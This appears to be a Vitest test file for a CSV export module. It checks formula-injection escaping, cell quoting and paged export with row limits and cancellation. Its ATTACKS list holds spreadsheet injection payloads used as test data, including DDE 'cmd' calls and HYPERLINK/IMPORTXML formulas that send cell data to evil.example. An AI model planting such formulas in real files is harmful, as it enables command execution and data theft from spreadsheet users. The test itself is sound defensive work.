import { describe, expect, it } from 'vitest'
import { BOM, csvLine, csvOf, harmless } from '../../../console/src/parts/csv/csv.ts'

/** Cells that spreadsheets have run, by OWASP's list and what got past it: blanks, invisible marks and wide forms first. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"look")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '+989121234567',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200f=1+1',
  '\u200e+989121234567',
  '\ufeff=1+1',
  '\u200b\u200c@SUM(1)',
  '\u0001=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u22121+1',
]

const HARMLESS = ['', 'سلام', 'a=b', '1-2', '989121234567', 'kind@example.ir', 'قیمت: -۵', '(=)', "'=1"]

const read = (line: string): string[] =>
  [...line.trimEnd().matchAll(/"((?:[^"]|"")*)"(?:,|$)|([^",]*)(?:,|$)/g)]
    .slice(0, -1)
    .map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')

describe('CSV', () => {
  it.each(ATTACKS)('neutralises %j', (text) => {
    expect(harmless(text)).toBe(`'${text}`)
    expect(csvLine([text])).toMatch(/^"'/)
  })

  it('leaves texts alone that nothing runs', () => {
    for (const text of HARMLESS) expect(harmless(text)).toBe(text)
  })

  it('keeps a cell one cell, whatever is in it', () => {
    const cells = ['a,b', 'say "no"', 'two\r\nlines', 'semi;=1+1', '"', '","=1+1']
    expect(read(csvLine(cells))).toEqual(cells)
    expect(csvLine(['a\0b', null, undefined, 12, -3, Number.NaN])).toBe('"ab",,,12,-3,\r\n')
  })

  const columns = [{ name: 'id', of: (row: number) => `n${row}` }]
  const pages = (cursor = '0') => {
    const from = Number(cursor)
    const data = Array.from({ length: 10 }, (_, i) => from + i)
    return Promise.resolve({ data, nextCursor: from === 40 ? null : String(from + 10) })
  }
  const lines = async (blob: Blob): Promise<number> => (await blob.text()).split('\r\n').length - 2

  it('writes a list to its end, with the mark of UTF-8', async () => {
    const seen: number[] = []
    const file = await csvOf({
      columns,
      read: pages,
      most: 1000,
      onProgress: ({ rows }) => seen.push(rows),
      signal: new AbortController().signal,
    })
    expect([file.end, file.rows, await lines(file.blob)]).toEqual(['all', 50, 50])
    expect(seen).toEqual([10, 20, 30, 40, 50])
    const bytes = new Uint8Array(await file.blob.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(BOM.length).toBe(1)
  })

  it('ends at its most rows, and when it is stopped', async () => {
    const full = await csvOf({
      columns,
      read: pages,
      most: 25,
      onProgress: () => undefined,
      signal: new AbortController().signal,
    })
    expect([full.end, full.rows, await lines(full.blob)]).toEqual(['most', 25, 25])
    const control = new AbortController()
    const onProgress = () => control.abort()
    const stopped = await csvOf({ columns, read: pages, most: 1000, onProgress, signal: control.signal })
    expect([stopped.end, stopped.rows, await lines(stopped.blob)]).toEqual(['stopped', 10, 10])
  })
})
